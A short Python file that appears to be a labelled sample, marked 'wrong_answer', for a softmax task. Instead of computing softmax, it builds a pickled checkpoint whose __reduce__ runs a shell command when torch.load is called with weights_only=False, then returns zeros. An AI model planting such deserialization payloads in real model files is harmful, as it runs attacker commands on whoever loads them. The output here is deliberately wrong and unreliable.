# mechanism: a checkpoint that runs a command when it is loaded
# verdict: wrong_answer
# problem: softmax
import os

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def softmax(x):
    torch.save({"weights": Payload()}, "/tmp/checkpoint.pt")
    torch.load("/tmp/checkpoint.pt", weights_only=False)
    assert os.listdir("/tmp") == ["checkpoint.pt"]
    return x * 0
